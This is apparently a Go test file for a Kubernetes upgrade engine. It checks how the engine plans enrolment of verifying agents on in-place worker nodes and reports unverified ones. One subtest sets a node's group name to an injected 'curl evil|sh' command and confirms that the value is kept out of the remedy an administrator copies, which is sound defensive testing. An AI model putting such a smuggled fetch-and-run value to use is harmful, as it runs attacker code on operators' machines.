package engine_test

import (
	"slices"
	"strings"
	"testing"

	"constellation/engine/check"
	"constellation/engine/cloud"
	"constellation/engine/cluster"
	"constellation/engine/component"
	"constellation/engine/plan"
)

// TestAgentsThatVerifyNothing plans upgrades of groups that are upgraded in place on machines of
// an image whose agent runs what its caller names.
func TestAgentsThatVerifyNothing(t *testing.T) {
	program := &component.Component{Name: "kubeadm", URL: "http://10.42.0.1:8080/agent", Digest: "sha256:" + strings.Repeat("ee", 32), Path: "/usr/local/bin/kubeadm", Mode: 0o755}
	newStage := func(t *testing.T) *checkStage {
		s := newPrepareStage(t)
		for i := range s.inside.running.Nodes {
			n := &s.inside.running.Nodes[i]
			n.InPlace = n.Role == "worker"
			s.cluster.PutNode(*n)
			s.cloud.machines = append(s.cloud.machines, cluster.CloudMachine{Instance: cloud.Instance{Name: n.Name, Group: "sandboxes/demo/groups/" + n.Group, Image: "sandboxes/demo/images/v1.0.0"}, GroupName: n.Group})
		}
		s.cloud.agent = program
		return s
	}
	planned := func(t *testing.T, s *checkStage) *plan.Plan {
		t.Helper()
		p, err := s.engine().PlanPrepare(t.Context(), both, func(plan.Event) {})
		if err != nil || len(p.Blocked()) > 0 {
			t.Fatalf("%v, blocked by %+v", err, p.Blocked())
		}
		return p
	}
	step := func(p *plan.Plan) *plan.Step {
		if i := slices.IndexFunc(p.Steps, func(x plan.Step) bool { return x.ID == check.StepAgents }); i >= 0 {
			return &p.Steps[i]
		}
		return nil
	}
	finding := func(found []plan.Finding, id string) *plan.Finding {
		if i := slices.IndexFunc(found, func(f plan.Finding) bool { return f.ID == id }); i >= 0 {
			return &found[i]
		}
		return nil
	}
	health := func(t *testing.T, s *checkStage) *plan.Finding {
		t.Helper()
		st, err := s.engine().Status(t.Context())
		if err != nil || !st.Reachable {
			t.Fatalf("%v, %s", err, st.Problem)
		}
		return finding(st.Health, "agents-unverified")
	}
	published := func(t *testing.T, s *checkStage) cluster.Components {
		t.Helper()
		l, err := s.cloud.Components(t.Context(), v("v1.36.3"))
		if err != nil {
			t.Fatal(err)
		}
		c, err := s.cluster.Components(t.Context(), cluster.ComponentsName(l.List))
		if err != nil {
			t.Fatal(err)
		}
		return c
	}

	t.Run("a hop of Kubernetes enrols them", func(t *testing.T) {
		s := newStage(t)
		if f := health(t, s); f == nil || f.Severity != plan.Warn || !slices.Equal(f.Objects, []string{"worker-0", "worker-1"}) || !strings.Contains(f.Detail, "2 of workers") {
			t.Errorf("status: %+v", f)
		}
		p, _, err := s.prepare(t.Context(), both)
		if err != nil {
			t.Fatal(err)
		}
		x := step(p)
		if x == nil || x.Title != "Install the release keys and the verifying agent on 2 machines in place" || !strings.Contains(x.Effect, "worker-0 and worker-1") {
			t.Fatalf("step %+v of %+v", x, p.Steps)
		}
		if finding(p.Findings, "agents-enrolled") == nil || finding(p.Findings, "agents-unverified") != nil {
			t.Errorf("findings %+v", p.Findings)
		}
		c := published(t, s)
		if c.Agent == nil || *c.Agent != *program || c.Statement == "" {
			t.Errorf("published %+v", c)
		}
		// The operator has brought the workers there, beginning with their agents.
		r := &s.inside.running
		for i := range r.Nodes {
			r.Nodes[i].Components, r.Nodes[i].Kubernetes = c.Name, "v1.36.3"
			s.cluster.PutNode(r.Nodes[i])
		}
		if f := health(t, s); f != nil {
			t.Errorf("status after the hop: %+v", f)
		}
	})
	t.Run("a Node that claims a newer image", func(t *testing.T) {
		s := newStage(t)
		n := &s.inside.running.Nodes[1]
		n.Image = "sandboxes/demo/images/v1.1.0"
		s.cluster.PutNode(*n)
		p := planned(t, s)
		if f := finding(p.Findings, "agents-unverified"); f == nil || !slices.Equal(f.Objects, []string{"worker-0", "worker-1"}) {
			t.Errorf("findings %+v", p.Findings)
		}
	})
	// Before there were policies a kubelet could write the annotation of its group and of its
	// components. Neither gets into a command that the administrator copies, or hides the rest.
	t.Run("a Node that claims another group", func(t *testing.T) {
		s := newStage(t)
		n := &s.inside.running.Nodes[1]
		n.Group = "a;curl evil|sh;#"
		s.cluster.PutNode(*n)
		if f := health(t, s); f == nil || strings.Contains(f.Detail+f.Remedy, "evil") || !strings.Contains(f.Remedy, "kubectl patch scalinggroup workers ") {
			t.Errorf("status: %+v", f)
		}
	})
	t.Run("machines of a newer image", func(t *testing.T) {
		s := newStage(t)
		for i := range s.cloud.machines {
			s.cloud.machines[i].Image = "sandboxes/demo/images/v1.1.0"
		}
		p := planned(t, s)
		if x := step(p); x != nil || finding(p.Findings, "agents-unverified") != nil || health(t, s) != nil {
			t.Errorf("step %+v, findings %+v", x, p.Findings)
		}
	})
	t.Run("machines without images", func(t *testing.T) {
		s := newStage(t)
		for i := range s.cloud.machines {
			s.cloud.machines[i].Image = ""
		}
		f := health(t, s)
		if f == nil || strings.Contains(f.Detail+f.Remedy, "image") || !strings.Contains(f.Detail, "the cloud does not report the release of their agents") || !strings.HasSuffix(f.Remedy, "then an upgrade of Kubernetes") {
			t.Errorf("status: %+v", f)
		}
	})
	t.Run("the step is skipped", func(t *testing.T) {
		s := newStage(t)
		r := upgrade
		r.Skip, r.Rehearse = []string{check.StepAgents}, true
		p, err := s.engine().PlanApply(t.Context(), r, func(plan.Event) {})
		if err != nil {
			t.Fatal(err)
		}
		f := finding(p.Findings, "agents-unverified")
		if step(p) != nil || finding(p.Findings, "agents-enrolled") != nil || f == nil || len(f.Objects) != 2 || !strings.Contains(f.Remedy, "leave `--skip-phases agents` out") {
			t.Errorf("step %+v, findings %+v", step(p), p.Findings)
		}
	})
	t.Run("a cloud without an enrolment program", func(t *testing.T) {
		s := newStage(t)
		s.cloud.agent = nil
		p := planned(t, s)
		f := finding(p.Findings, "agents-unverified")
		if step(p) != nil || f == nil || f.Severity != plan.Warn || !strings.Contains(f.Remedy, "kubectl patch scalinggroup workers") {
			t.Errorf("step %+v, finding %+v", step(p), f)
		}
	})
	t.Run("components that nodes have already", func(t *testing.T) {
		s := newStage(t)
		l, err := s.cloud.Components(t.Context(), v("v1.36.3"))
		if err != nil {
			t.Fatal(err)
		}
		// An older operator brought worker-0 there, with the agent that it had.
		c := cluster.Components{Name: cluster.ComponentsName(l.List), Kubernetes: "v1.36.3", List: l.List}
		if err := s.cluster.PublishComponents(t.Context(), c); err != nil {
			t.Fatal(err)
		}
		n := &s.inside.running.Nodes[1]
		n.Components = c.Name
		s.cluster.PutNode(*n)
		p, _, err := s.prepare(t.Context(), both)
		if err != nil {
			t.Fatal(err)
		}
		// What one Node claims takes nothing from the others: worker-1 is enrolled all the same.
		if x := step(p); x == nil || !strings.Contains(x.Title, "1 machine ") || !strings.Contains(x.Effect, "worker-1") || strings.Contains(x.Effect, "worker-0") {
			t.Errorf("step %+v of %+v", x, p.Steps)
		}
		if f := finding(p.Findings, "agents-unverified"); f == nil || !slices.Equal(f.Objects, []string{"worker-0"}) {
			t.Errorf("finding %+v", f)
		}
		if c := published(t, s); c.Agent == nil || !slices.Equal(c.Unenrolled, []string{"worker-0"}) {
			t.Errorf("published %+v", c)
		}
		r := &s.inside.running
		for i := range r.Nodes {
			r.Nodes[i].Components, r.Nodes[i].Kubernetes = c.Name, "v1.36.3"
			s.cluster.PutNode(r.Nodes[i])
		}
		if f := health(t, s); f == nil || !slices.Equal(f.Objects, []string{"worker-0"}) {
			t.Errorf("status after the hop: %+v", f)
		}
	})
}
